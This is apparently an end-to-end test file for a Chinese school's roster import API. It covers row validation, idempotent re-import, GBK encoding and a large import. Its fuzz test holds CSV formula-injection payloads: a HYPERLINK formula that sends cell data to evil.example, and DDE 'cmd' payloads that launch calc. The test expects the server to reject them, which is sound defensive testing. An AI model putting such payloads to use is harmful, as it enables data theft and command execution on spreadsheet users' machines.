/**
 * Roster import end to end, as school_admin1 of 杭州市西湖区实验中学 (XHSY): a file with one bad
 * row writes nothing, the fixed file imports, re-importing is idempotent, a changed row updates,
 * malformed and hostile files are clean problems or invalid imports (never a partial write, never
 * 5xx), a GBK CSV imports, and 20,000 rows import with visible progress.
 */
import ExcelJS from 'exceljs';
import { cnIdCheckChar } from '@zhijiao/engine';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Client, startServer, type RunningServer } from '../support/server.js';

let server: RunningServer;
let admin: Client;
let schoolId: string;

beforeAll(async () => {
  server = await startServer();
  admin = new Client(server.baseUrl);
  await admin.login('school_admin1');
  const schools = await admin.get('/api/schools');
  expect(schools.data).toHaveLength(1);
  expect(schools.data[0].code).toBe('XHSY');
  schoolId = schools.data[0].id;
});
afterAll(async () => {
  await server?.stop();
});

// ---------------------------------------------------------------------------------------------
// Helpers

const HEADER = ['姓名', '学号', '性别', '年级', '班级', '身份证号', '家长姓名', '家长手机号'];
type Row = [string, string, string, string, string, string, string, string];

/** A valid 18-character resident ID number, distinct for distinct n (n < 336,000). */
function idNumber(n: number, birthYear = 2013): string {
  const date = Math.floor(n / 1000);
  const month = 1 + (date % 12);
  const day = 1 + (Math.floor(date / 12) % 28);
  const id17 = `330106${birthYear}${String(month).padStart(2, '0')}${String(day).padStart(2, '0')}${String(n % 1000).padStart(3, '0')}`;
  return id17 + cnIdCheckChar(id17);
}

const csv = (rows: string[][], header = HEADER) =>
  [header, ...rows].map((r) => r.map((c) => (/[",\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(',')).join('\r\n') + '\r\n';

async function xlsx(rows: (string | number | { formula: string })[][], header = HEADER): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('学生名册');
  ws.addRow(header);
  for (const r of rows) ws.addRow(r);
  return Buffer.from((await wb.xlsx.writeBuffer()) as ArrayBuffer);
}

async function upload(filename: string, data: Buffer | string, type = 'application/octet-stream') {
  const fd = new FormData();
  fd.set('file', new Blob([new Uint8Array(typeof data === 'string' ? Buffer.from(data, 'utf8') : data)], { type }), filename);
  return admin.post('/api/roster/imports', fd);
}

async function waitImport(id: string, timeoutMs: number, onPoll?: (imp: any) => void): Promise<any> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const r = await admin.get(`/api/roster/imports/${id}`);
    expect(r.status).toBe(200);
    onPoll?.(r.data);
    if (['done', 'invalid', 'failed'].includes(r.data.status)) return r.data;
    if (Date.now() > deadline) throw new Error(`import ${id} still ${r.data.status} after ${timeoutMs} ms`);
    await new Promise((ok) => setTimeout(ok, 200));
  }
}

async function importAndWait(filename: string, data: Buffer | string, timeoutMs = 60_000) {
  const r = await upload(filename, data);
  expect(r.status, JSON.stringify(r.data).slice(0, 500)).toBe(202);
  expect(r.data.status).toBe('queued');
  return waitImport(r.data.id, timeoutMs);
}

async function studentTotal(): Promise<number> {
  const r = await admin.get(`/api/students?schoolId=${schoolId}&pageSize=1`);
  expect(r.status).toBe(200);
  return r.data.total;
}

async function findStudents(q: string): Promise<any[]> {
  const r = await admin.get(`/api/students?schoolId=${schoolId}&pageSize=200&q=${encodeURIComponent(q)}`);
  expect(r.status).toBe(200);
  return r.data.items;
}

/** GBK bytes for a string (Node has a GBK decoder but no encoder: invert the decoder once). */
let gbkTable: Map<string, number[]> | null = null;
function gbk(s: string): Buffer {
  if (!gbkTable) {
    gbkTable = new Map();
    const dec = new TextDecoder('gbk');
    for (let a = 0x81; a <= 0xfe; a++)
      for (let b = 0x40; b <= 0xfe; b++) {
        if (b === 0x7f) continue;
        const ch = dec.decode(Uint8Array.of(a, b));
        if (ch.length === 1 && ch !== '\ufffd' && !gbkTable.has(ch)) gbkTable.set(ch, [a, b]);
      }
  }
  const out: number[] = [];
  for (const ch of s) {
    const c = ch.codePointAt(0)!;
    if (c < 0x80) out.push(c);
    else {
      const bytes = gbkTable.get(ch);
      if (!bytes) throw new Error(`no GBK code for ${ch}`);
      out.push(...bytes);
    }
  }
  return Buffer.from(out);
}

function prng(seed: number) {
  return () => {
    seed = (seed + 0x6d2b79f5) | 0;
    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
const randomBytes = (rnd: () => number, n: number) => Buffer.from(Array.from({ length: n }, () => Math.floor(rnd() * 256)));

// The small roster of tests (a)–(d): twelve new students of grades 7 and 8.
const CN = ['一', '二', '三', '四', '五', '六', '七', '八', '九', '十', '十一', '十二'];
const N = CN.length;
const small: Row[] = CN.map((n, i) => [
  `诸葛晓${n}`,
  `R26-${String(i + 1).padStart(3, '0')}`,
  i % 2 ? '女' : '男',
  i < 6 ? '七年级' : '八年级',
  `(${1 + (i % 2)})班`,
  idNumber(500 + i),
  `诸葛家长${n}`,
  `1390000${String(i + 1).padStart(4, '0')}`,
]);

describe('roster import', () => {
  let before: number;

  it('(a) one bad row: the import is invalid, names exactly that row and reason, and writes nothing', async () => {
    before = await studentTotal();
    expect(before).toBe(40);

    const bad = small.map((r) => [...r]);
    const id = bad[3]![5]!;
    bad[3]![5] = id.slice(0, 17) + (id[17] === '0' ? '1' : '0'); // wrong check character
    const r = await upload('名册-有误.csv', '\ufeff' + csv(bad), 'text/csv');
    expect(r.status).toBe(202);
    expect(r.data).toMatchObject({ status: 'invalid', totalRows: N - 1, processedRows: 0, summary: null, schoolId });
    expect(r.data.errors).toEqual([
      {
        row: 5,
        column: '身份证号',
        code: 'roster.invalid_id_number',
        message: { zh: expect.stringContaining('身份证号无效'), en: expect.stringContaining('Invalid ID number') },
        value: bad[3]![5],
      },
    ]);
    const again = await admin.get(`/api/roster/imports/${r.data.id}`);
    expect(again.data.status).toBe('invalid');
    expect(again.data.finishedAt).not.toBeNull();

    // The same in an xlsx: a class the school does not have (七年级(3)班) on the last row.
    const wrongClass = small.map((r) => [...r]);
    wrongClass[N - 1]![4] = '(3)班';
    wrongClass[N - 1]![3] = '七年级';
    const x = await upload('roster.xlsx', await xlsx(wrongClass));
    expect(x.status).toBe(202);
    expect(x.data.status).toBe('invalid');
    expect(x.data.errors).toHaveLength(1);
    expect(x.data.errors[0]).toMatchObject({ row: N + 1, column: '班级', code: 'roster.unknown_class', value: '(3)班' });
    expect(x.data.errors[0].message.zh).toContain('七年级(3)班');

    await new Promise((ok) => setTimeout(ok, 1500)); // a (wrongly) queued job would have run by now
    expect(await studentTotal()).toBe(before);
    expect(await findStudents('诸葛晓')).toEqual([]);
  });

  it('(b) the fixed file imports: done, created = N, every student findable by name', async () => {
    const done = await importAndWait('名册.csv', '\ufeff' + csv(small));
    expect(done).toMatchObject({ status: 'done', totalRows: N, processedRows: N, errors: [], summary: { created: N, updated: 0, unchanged: 0 } });
    expect(await studentTotal()).toBe(before + N);
    for (const [i, row] of small.entries()) {
      const found = (await findStudents(row[0])).filter((s) => s.name === row[0]);
      expect(found, row[0]).toHaveLength(1);
      expect(found[0]).toMatchObject({
        studentNo: row[1],
        gender: i % 2 ? 'F' : 'M',
        className: `${i < 6 ? '七年级' : '八年级'}(${1 + (i % 2)})班`,
        schoolId,
      });
    }
    // The detail masks the ID number and links the guardian (phone masked).
    const first = (await findStudents('诸葛晓一')).find((s) => s.name === '诸葛晓一');
    const detail = await admin.get(`/api/students/${first.id}`);
    expect(detail.data.idNumberMasked).toMatch(/^330106\*+\w{4}$/);
    expect(detail.data.guardians).toEqual([{ name: '诸葛家长一', phoneMasked: expect.stringMatching(/^139\*{4}0001$/) }]);
    expect(JSON.stringify(detail.data)).not.toContain(small[0]![5]);
  });

  it('(c) importing the same roster again changes nothing (also as xlsx)', async () => {
    const again = await importAndWait('名册.csv', '\ufeff' + csv(small));
    expect(again.summary).toEqual({ created: 0, updated: 0, unchanged: N });
    const asXlsx = await importAndWait('名册.xlsx', await xlsx(small));
    expect(asXlsx.summary).toEqual({ created: 0, updated: 0, unchanged: N });
    expect(await studentTotal()).toBe(before + N);
  });

  it('(d) a changed row (new class) updates exactly that student', async () => {
    const changed = small.map((r) => [...r]);
    changed[0]![4] = '(2)班'; // 诸葛晓一: 七年级(1)班 -> 七年级(2)班
    const done = await importAndWait('名册-调班.csv', csv(changed));
    expect(done.summary).toEqual({ created: 0, updated: 1, unchanged: N - 1 });
    const s = (await findStudents('诸葛晓一')).find((x) => x.name === '诸葛晓一');
    expect(s.className).toBe('七年级(2)班');
    expect(await studentTotal()).toBe(before + N);
    // The class lists follow: the student is now in 七年级(2)班.
    const classes = (await admin.get('/api/classes')).data as any[];
    const c72 = classes.find((c) => c.name === '七年级(2)班');
    const list = (await admin.get(`/api/classes/${c72.id}/students`)).data as any[];
    expect(list.map((x) => x.name)).toContain('诸葛晓一');
  });

  it('(e) malformed and hostile files: a clear problem or an invalid import, never 5xx, never a partial write', async () => {
    const total = await studentTotal();
    const rnd = prng(7);
    const good = await xlsx(small);
    const row = (name: string, no: string, extra: Partial<Record<number, string>> = {}) => {
      const r: string[] = [name, no, '男', '七年级', '(1)班', '', '', ''];
      for (const [k, v] of Object.entries(extra)) r[Number(k)] = v!;
      return r;
    };
    type Expect = { problem: [number, string] } | { invalid: string[] } | { any: true };
    const cases: { label: string; filename: string; data: Buffer | string; expect: Expect }[] = [
      { label: 'random bytes as .xlsx', filename: 'a.xlsx', data: randomBytes(rnd, 4096), expect: { problem: [400, 'roster.unreadable_file'] } },
      { label: 'random bytes as .csv', filename: 'a.csv', data: randomBytes(rnd, 4096), expect: { problem: [400, 'roster.unreadable_file'] } },
      { label: 'zip magic + random bytes as .xlsx', filename: 'b.xlsx', data: Buffer.concat([Buffer.from([0x50, 0x4b, 3, 4]), randomBytes(rnd, 2000)]), expect: { problem: [400, 'roster.unreadable_file'] } },
      { label: 'truncated xlsx', filename: 'cut.xlsx', data: good.subarray(0, Math.floor(good.length / 2)), expect: { problem: [400, 'roster.unreadable_file'] } },
      { label: 'truncated xlsx renamed .csv', filename: 'cut.csv', data: good.subarray(0, Math.floor(good.length * 0.8)), expect: { problem: [400, 'roster.unreadable_file'] } },
      { label: 'old .xls (OLE) renamed .xlsx', filename: 'old.xlsx', data: Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), randomBytes(rnd, 1000)]), expect: { problem: [400, 'roster.unreadable_file'] } },
      {
        label: '100k-character cells (csv)',
        filename: 'huge.csv',
        data: csv([row('张'.repeat(100_000), 'H-1'), row('李四', 'H-2', { 6: 'x'.repeat(100_000) })]),
        expect: { invalid: ['roster.cell_too_long'] },
      },
      { label: 'UTF-16 garbage', filename: 'u16.csv', data: Buffer.concat([Buffer.from([0xff, 0xfe]), randomBytes(rnd, 3000)]), expect: { any: true } },
      { label: 'UTF-16LE valid text, no roster columns', filename: 'u16b.csv', data: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('名字,编号\r\n张三,1\r\n', 'utf16le')]), expect: { problem: [422, 'roster.missing_columns'] } },
      {
        label: 'formula injection text',
        filename: 'inject.csv',
        data: csv([
          row('=HYPERLINK("http://evil.example/?x="&A1,"点我")', 'F-1'),
          row('张三', 'F-2', { 6: "+cmd|' /C calc'!A0" }),
          row('李四', 'F-3', { 6: '@SUM(1+1)*cmd|" /C calc"!A0' }),
          row('王五', 'F-4', { 6: "-2+3+cmd|' /C calc'!A0" }),
        ]),
        expect: { invalid: ['roster.formula_not_allowed'] },
      },
      { label: 'real formula cell in xlsx', filename: 'formula.xlsx', data: await xlsx([[{ formula: 'CONCATENATE("张","三")' } as any, 'F-5', '男', '七年级', '(1)班']]), expect: { invalid: ['roster.formula_not_allowed'] } },
      { label: '.exe extension', filename: 'roster.exe', data: Buffer.from('MZ\x90\x00' + 'x'.repeat(500), 'latin1'), expect: { problem: [400, 'roster.unsupported_format'] } },
      { label: 'no extension', filename: 'roster', data: csv(small), expect: { problem: [400, 'roster.unsupported_format'] } },
      { label: 'empty file', filename: 'empty.csv', data: Buffer.alloc(0), expect: { problem: [400, 'roster.file_missing'] } },
      { label: 'header only', filename: 'header.csv', data: csv([]), expect: { problem: [422, 'roster.empty'] } },
      { label: 'blank lines only', filename: 'blank.csv', data: '\r\n \r\n,,,\r\n', expect: { problem: [422, 'roster.empty'] } },
      { label: 'missing required columns', filename: 'cols.csv', data: '姓名,性别\r\n张三,男\r\n', expect: { problem: [422, 'roster.missing_columns'] } },
      { label: 'unmatched quote', filename: 'quote.csv', data: csv([]) + '"张三,Q-1,男,七年级,1\r\n李四,"Q-2",男,七年级,1\r\n', expect: { any: true } },
      { label: 'one bad among good rows (bad gender, bad phone)', filename: 'mixed.csv', data: csv([row('张三', 'M-1'), row('李四', 'M-2', { 2: '未知' }), row('王五', 'M-3', { 7: '12345' })]), expect: { invalid: ['roster.invalid_gender', 'roster.invalid_phone'] } },
      { label: 'duplicate student numbers', filename: 'dup.csv', data: csv([row('张三', 'D-1'), row('李四', 'd-1')]), expect: { invalid: ['roster.duplicate_student_no'] } },
      { label: '50,001 rows', filename: 'many.csv', data: csv(Array.from({ length: 50_001 }, (_, i) => row('张三', `M${i}`))), expect: { problem: [413, 'roster.too_many_rows'] } },
    ];

    const outcomes: string[] = [];
    for (const c of cases) {
      const r = await upload(c.filename, c.data);
      const where = `${c.label}: ${r.status} ${JSON.stringify(r.data).slice(0, 400)}`;
      expect(r.status, where).toBeLessThan(500);
      if (r.status === 202) {
        expect(r.data.status, where).toBe('invalid');
        expect(r.data.errors.length, where).toBeGreaterThan(0);
        for (const e of r.data.errors) {
          expect(e.row, where).toBeGreaterThan(1);
          expect(e.code, where).toMatch(/^roster\.[a-z_]+$/);
          expect(e.value === null || e.value.length <= 51, where).toBe(true); // echoed values are shortened
        }
        outcomes.push(`${c.label} -> invalid [${[...new Set(r.data.errors.map((e: any) => e.code))].join(',')}]`);
      } else {
        expect(r.status, where).toBeGreaterThanOrEqual(400);
        expect(r.headers.get('content-type'), where).toMatch(/^application\/problem\+json/);
        expect(r.data.code, where).toMatch(/^(roster|request)\.[a-z_]+$/);
        expect(r.data.detail, where).toBeTruthy();
        outcomes.push(`${c.label} -> ${r.status} ${r.data.code}`);
      }
      if ('problem' in c.expect) {
        expect(r.status, where).toBe(c.expect.problem[0]);
        expect(r.data.code, where).toBe(c.expect.problem[1]);
      } else if ('invalid' in c.expect) {
        expect(r.status, where).toBe(202);
        expect([...new Set(r.data.errors.map((e: any) => e.code))].sort(), where).toEqual([...c.expect.invalid].sort());
      }
    }
    // The formula-injection file names every bad cell.
    console.log('roster fuzz outcomes:\n  ' + outcomes.join('\n  '));

    // Over the 20 MB upload limit.
    const big = Buffer.alloc(21 * 1024 * 1024, 0x41);
    const tooBig = await upload('big.csv', big).catch((e) => ({ status: -1, data: String(e), headers: new Headers() }));
    expect(tooBig.status, JSON.stringify(tooBig.data).slice(0, 300)).toBe(413);
    expect(tooBig.data.code).toBe('request.too_large');

    // Not multipart at all; multipart without the file field.
    const json = await admin.post('/api/roster/imports', { file: 'x' });
    expect([json.status, json.data.code]).toEqual([415, 'roster.multipart_required']);
    const fd = new FormData();
    fd.set('other', 'value');
    const noFile = await admin.post('/api/roster/imports', fd);
    expect([noFile.status, noFile.data.code]).toEqual([400, 'roster.file_missing']);

    await new Promise((ok) => setTimeout(ok, 1000));
    expect(await studentTotal()).toBe(total);
    const recent = (await admin.get('/api/roster/imports')).data as any[];
    expect(recent.every((i) => i.status === 'invalid' || i.status === 'done')).toBe(true);
    expect((await admin.get('/api/health')).data).toEqual({ status: 'ok' });
    expect(server.output()).not.toMatch(/request failed|"level":50/);
  });

  it('(e) a GBK-encoded CSV (Excel "CSV (逗号分隔)" in China) imports', async () => {
    const total = await studentTotal();
    const rows: Row[] = [
      ['欧阳锦绣', 'GBK-001', '女', '初一', '1班', idNumber(900), '欧阳建华', '13700000001'],
      ['司马懿然', 'GBK-002', '男', '八年级', '八年级(2)班', '', '', ''],
    ];
    const bytes = gbk(csv(rows));
    expect(() => new TextDecoder('utf-8', { fatal: true }).decode(bytes)).toThrow(); // really not UTF-8
    const done = await importAndWait('gbk名册.csv', bytes);
    expect(done).toMatchObject({ status: 'done', summary: { created: 2, updated: 0, unchanged: 0 } });
    expect(await studentTotal()).toBe(total + 2);
    expect((await findStudents('欧阳锦绣'))[0]).toMatchObject({ studentNo: 'GBK-001', className: '七年级(1)班' });
    expect((await findStudents('司马懿然'))[0]).toMatchObject({ studentNo: 'GBK-002', className: '八年级(2)班' });
  });

  it('(f) 20,000 rows import to done with progress reported', { timeout: 600_000 }, async () => {
    const total = await studentTotal();
    const COUNT = 20_000;
    const SUR = '赵钱孙李周吴郑王冯陈褚卫蒋沈韩杨朱秦尤许何吕施张孔曹严华金魏陶姜';
    const GIV = '子涵一诺欣怡梓晨曦浩宇轩雨桐思远俊熙诗若汐博文明嘉语嫣豪皓佳琪墨彤天佑沐阳鸣可馨然泽奕辰书瑶雅';
    const rows: string[][] = [];
    for (let i = 0; i < COUNT; i++) {
      const name = SUR[i % SUR.length]! + GIV[Math.floor(i / SUR.length) % GIV.length]! + GIV[Math.floor(i / (SUR.length * GIV.length)) % GIV.length]!;
      const level = i % 2 ? '八年级' : '七年级';
      rows.push([
        name,
        `L${String(i).padStart(6, '0')}`,
        i % 3 ? '男' : '女',
        level,
        `(${1 + (Math.floor(i / 2) % 2)})班`,
        idNumber(i, i % 2 ? 2012 : 2013),
        i % 10 === 0 ? `${name[0]}家长` : '',
        i % 10 === 0 ? `136${String(i).padStart(8, '0')}` : '',
      ]);
    }
    const t0 = Date.now();
    const file = await xlsx(rows);
    const generated = Date.now();
    const r = await upload('全校名册-20000.xlsx', file);
    const accepted = Date.now();
    expect(r.status, JSON.stringify(r.data).slice(0, 500)).toBe(202);
    expect(r.data).toMatchObject({ status: 'queued', totalRows: COUNT, processedRows: 0, errors: [] });

    const seen: string[] = [];
    let lastProcessed = 0;
    const done = await waitImport(r.data.id, 540_000, (imp) => {
      expect(imp.totalRows).toBe(COUNT);
      expect(imp.processedRows).toBeGreaterThanOrEqual(lastProcessed);
      expect(imp.processedRows).toBeLessThanOrEqual(COUNT);
      lastProcessed = imp.processedRows;
      const s = `${imp.status} ${imp.processedRows}/${imp.totalRows}`;
      if (seen.at(-1) !== s) seen.push(s);
    });
    const finished = Date.now();
    console.log(
      `20,000-row import: xlsx generated in ${generated - t0} ms (${(file.length / 1e6).toFixed(1)} MB), ` +
        `upload+validation ${accepted - generated} ms, import ${finished - accepted} ms, total ${finished - t0} ms\n` +
        `  progress seen: ${seen.join(' -> ')}`,
    );
    expect(done).toMatchObject({ status: 'done', processedRows: COUNT, totalRows: COUNT, summary: { created: COUNT, updated: 0, unchanged: 0 } });
    expect(seen.at(-1)).toBe(`done ${COUNT}/${COUNT}`);
    expect(await studentTotal()).toBe(total + COUNT);
    for (const i of [0, 1, 7777, COUNT - 1]) {
      const found = await findStudents(`L${String(i).padStart(6, '0')}`);
      expect(found.map((s) => s.name)).toEqual([rows[i]![0]]);
    }
    // Every class got its share.
    const classes = (await admin.get('/api/classes')).data as any[];
    expect(classes.reduce((n, c) => n + c.studentCount, 0)).toBe(total + COUNT);
    for (const c of classes) expect(c.studentCount).toBeGreaterThanOrEqual(COUNT / 4);
  });
});
